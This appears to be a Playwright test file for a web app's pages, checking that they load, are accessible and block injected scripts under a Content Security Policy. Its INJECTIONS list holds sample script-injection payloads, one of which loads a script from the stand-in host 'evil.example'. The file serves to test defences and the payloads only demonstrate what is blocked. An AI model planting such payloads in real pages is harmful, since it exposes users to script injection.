"""What holds for every page: it loads in silence and from its own host, runs no foreign script, and is accessible."""

import pytest
from playwright.sync_api import ViewportSize, expect

from tests.support.accessibility import assert_accessible
from tests.support.browser import FULL_HD, PHONE, Pages
from tests.support.house import BARTENDER

PAGES = ("/", "/board", "/manager")
SCRIPT = "const script = document.createElement('script');"
INJECTIONS = {
    "a script's text": f"{SCRIPT} script.text = 'ran = true'; document.body.append(script)",
    "a script's child": f"{SCRIPT} script.append('ran = true'); document.body.append(script)",
    "a script of another host": f"{SCRIPT} script.src = 'http://evil.example/x.js'; document.body.append(script)",
    "markup": "document.body.innerHTML = '<img src=none onerror=\"ran = true\">'",
    "a handler": "document.body.setAttribute('onclick', 'ran = true'); document.body.click()",
    "evaluated text": "setTimeout('ran = true')",
}


@pytest.mark.parametrize("page", PAGES)
def test_a_page_loads_in_silence_and_from_its_own_host_alone(pages: Pages, page: str) -> None:
    opened = pages.open(page, as_user=BARTENDER)
    assert "ShakerQueue" in opened.title()


@pytest.mark.parametrize("viewport", [PHONE, FULL_HD], ids=["phone", "full-hd"])
@pytest.mark.parametrize("page", PAGES)
def test_a_page_is_accessible(pages: Pages, page: str, viewport: ViewportSize) -> None:
    opened = pages.open(page, viewport=viewport, as_user=BARTENDER)
    expect(opened.get_by_text("Live", exact=True)).to_be_visible()
    assert_accessible(opened)


@pytest.mark.parametrize("injection", INJECTIONS.values(), ids=INJECTIONS)
@pytest.mark.parametrize("page", PAGES)
def test_a_page_runs_no_script_that_somebody_gets_into_it(pages: Pages, page: str, injection: str) -> None:
    pages.allow("Trusted(Script|HTML)|Content Security Policy")
    opened = pages.open(page, as_user=BARTENDER)
    opened.evaluate("addEventListener('securitypolicyviolation', (it) => { refused = it.effectiveDirective })")

    opened.evaluate(f"try {{ {injection} }} catch (refusal) {{}}")

    opened.wait_for_function("window.refused")
    assert not opened.evaluate("window.ran")
